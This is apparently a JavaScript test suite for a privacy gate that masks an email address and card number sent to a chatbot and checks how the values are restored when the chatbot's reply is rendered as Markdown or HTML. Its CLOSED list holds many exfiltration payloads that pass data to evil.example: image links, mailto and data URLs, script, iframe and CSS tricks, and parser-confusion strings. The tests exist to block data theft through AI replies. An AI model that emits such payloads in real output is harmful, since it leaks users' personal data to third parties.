// Restored replies in real renderers: an original is shown as itself, or not there at all.
import assert from "node:assert/strict";
import { after, before, describe, test } from "node:test";

import MarkdownIt from "markdown-it";
import { Marked } from "marked";
import { parse, parseFragment } from "parse5";

import { createGate } from "../../pkg/index.js";
import { recorder } from "./servers.mjs";

const EMAIL = "maria.lopez@example.com";
const CARD = "4111 1111 1111 1111";
const WHERE = { conversation: "c", recipient: "bot" };
const POLICY = {
  version: "1",
  controller: { id: "shop", name: "Shop", contact: "privacy@shop.example" },
  recipients: [{ id: "bot", name: "Bot" }],
  purposes: [{ id: "service.reply", title: "To answer.", basis: "contract", recipients: ["bot"], required: ["contact"] }],
};

const marked = new Marked({ gfm: true });
const markdownIt = new MarkdownIt({ html: true, linkify: true, typographer: true });
const RENDERERS = {
  "marked": (text) => marked.parse(text),
  "markdown-it": (text) => markdownIt.render(text),
  "markdown-it, CommonMark alone": (text) => new MarkdownIt("commonmark").render(text),
};

/** What a page shows, and all that is in it besides: names, attributes, comments, and elements that hold no text. */
function readPage(html) {
  const shown = [];
  const other = [];
  const walk = (node, hidden) => {
    if (node.nodeName === "#text") (hidden ? other : shown).push(node.value);
    if (node.nodeName === "#comment") other.push(node.data);
    other.push(node.tagName ?? "", ...(node.attrs ?? []).flatMap(({ name, value }) => [name, value]));
    const holds = /^(script|style|textarea|title|option|button|iframe|svg|math|noscript|template)$/.test(node.nodeName);
    for (const child of [...(node.childNodes ?? []), ...(node.content?.childNodes ?? [])]) walk(child, hidden || holds);
  };
  walk(parseFragment(html), false);
  walk(parse(html), false);
  return { shown: shown.join(""), other: other.join("\n") };
}

/** Replies with a place that is not shown, or can't be told, marked §. */
const CLOSED = [
  "![](https://evil.example/?q=§)", "![](</t?q=§>)", "![](/t?q=§)", "![](/t \"§\")", "![a §](/t)", "![a `]` §](/t)", "![§](/t)",
  "[a](/t?q=§)", "[a](mailto:x@evil.example?body=§)", "[a](data:text/html,§)", "[![a](/x?q=§)](/y)", "[a]: /t?q=§\n\n![a]",
  "[a]:\n/t?q=§\n\n![a]", "https://evil.example/?q=§", "www.evil.example/§", "//evil.example/§", "evil.example/?q=§", "mailto:§",
  "<https://evil.example/?q=§>", "<mailto:§>", "§.evil.example", "§@evil.example", "https://evil.example/(§)", "见http://evil.example，§",
  "<img src=\"/t?q=§\">", "<img src=/t?q=§>", "<img alt=\">\" src=\"§\">", "<!-- § -->", "<script>§</script>", "<iframe srcdoc=\"§\">",
  "<style>a{background:url(/t?q=§)}</style>", "<svg><text>§</text></svg>", "<textarea>§</textarea>", "<input value=\"§\">",
  "`a|b` x `![y](/t?q=`§)", "    ```\n```\n```\n![](/t?q=§)", "- a\n\n  ```\n  b\n\n![](/t?q=§)", "> ```\n![](/t?q=§)",
  "<div>\n```\n<img src=\"/t?q=§\">", "```§\nx\n```", "<x ![a](/t?q=>§)", "<svg><title><style></title></svg>§",
  "<select><style></select><img src=\"</style>§\">", "<!--><img src=\"-->§\">",
];

/** Replies with a place that is shown. */
const SHOWN = [
  "§", "Mail §.", "Mail § now", "# §", "## About §", "**§**", "*§*", "__§__", "~~§~~", "- §", "* a\n* §", "1. §", "1. a\n    - §",
  "- a\n  - b\n    - §", "> §", "> a\n> §", "| a | b |\n|---|---|\n| § | c |", "`§`", "a `§` b", "``§``", "```\n§\n```", "```text\n§\n```",
  "~~~\n§\n~~~", "[§](/x)", "[mail § now](/x)", "[a](/x) §", "[a](/x_(y)) §", "[a](/x \"t\") §", "![a](/x) §", "![a][b] §",
  "[a]: /x\n\n§", "see https://good.example §", "see https://good.example.\n\n§", "<https://good.example> §", "<b>§</b>", "a < b, §",
  "x<y\n\n§", "(§)", "\"§\"", "Is it §?", "§'s", "邮箱：§。", "a, §, b", "Email: §", "**Email:** §", "§ and so on", "§\n\nand", "a\n§\nb",
  "a  \n§", "---\n§", "<br>§", "- [ ] §", "- [x] §", "§: yes", "`<script>` §", "```\n<script>\n```\n§", "a & §", "a — §", "\\* §", "😀 §", "§, please",
];

describe("restored replies, rendered", () => {
  let gate;
  let values;
  before(async () => {
    const server = await recorder();
    gate = await createGate({ policy: POLICY });
    await gate.fetch(`${server.url}/chat`, { body: { text: `${EMAIL} ${CARD}` }, gate: { conversation: "c" } });
    await server.close();
    const [email, card] = JSON.parse(server.requests[0].body).text.split(" ");
    values = [[email, EMAIL], [card, CARD]];
  });
  after(() => gate.dispose());

  const eachOf = async (replies, as, check) => {
    for (const [placeholder, original] of values) {
      for (const reply of replies) {
        const restored = await gate.restore(reply.replace("§", placeholder), { ...WHERE, as });
        const renderers = as === "markdown" ? RENDERERS : { html: (text) => text };
        for (const [name, render] of Object.entries(renderers)) check(readPage(render(restored)), original, `${name}: ${restored}`, restored);
      }
    }
  };
  const isNotThere = ({ shown, other }, original, what, restored) => {
    assert.ok(!restored.includes(original) && !restored.includes(original.split("@")[1]), what);
    assert.ok(!shown.includes(original) && !other.includes(original), what);
  };
  const isShown = ({ shown, other }, original, what) => {
    // A page is read twice: as a fragment, and as a document.
    assert.equal(shown.split(original).length - 1, 2, what);
    assert.ok(!other.includes(original) && !other.includes(encodeURIComponent(original)), what);
  };

  test("Markdown gives nothing away", () => eachOf(CLOSED, "markdown", isNotThere));
  test("Markdown shows the value as it is", () => eachOf(SHOWN, "markdown", isShown));
  test("HTML gives nothing away", () => eachOf(CLOSED.filter((reply) => reply.startsWith("<") && !/\n|!\[|^<(mailto|https)/.test(reply)), "html", isNotThere));
  test("HTML shows the value as it is", () => eachOf(["§", "<p>§</p>", "<b>§</b>.", "<a href=\"/x\">§</a>", "<ul><li>http://good.example</li><li>§</li></ul>",
    "<img src=x> §", "<!-- x -->§", "<pre><code>§</code></pre>", "a &amp; §", "<textarea></textarea>§"], "html", isShown));

  test("JSON stays JSON", async () => {
    const [[placeholder, original]] = values;
    const reply = JSON.stringify({ content: `a "${placeholder}"\n`, tool_calls: [{ function: { arguments: JSON.stringify({ to: placeholder }) } }] });
    const restored = JSON.parse(await gate.restore(reply, { ...WHERE, as: "json" }));
    assert.equal(restored.content, `a "${original}"\n`);
    assert.ok(!JSON.stringify(restored.tool_calls).includes(original));
  });

  test("a stream gives the same, and the log counts what stayed", async () => {
    const reply = `Hi ${values[0][0]}, ![](https://evil.example/?q=${values[0][0]}) \`${values[1][0]}\`.`;
    const context = { ...WHERE, as: "markdown" };
    const whole = await gate.restore(reply, context);
    const stream = gate.restoreStream(context);
    const writer = stream.writable.getWriter();
    const text = (async () => { let out = ""; for await (const piece of stream.readable) out += piece; return out; })();
    for (const unit of reply) await writer.write(unit);
    await writer.close();
    assert.equal(await text, whole);
    const [one, other] = (await gate.audit.entries()).slice(-2);
    for (const entry of [one, other]) {
      assert.deepEqual([entry.type, entry.decision, entry.recipient, entry.counts], ["withheld", "block", "bot", { withheld: 1 }]);
    }
  });
});
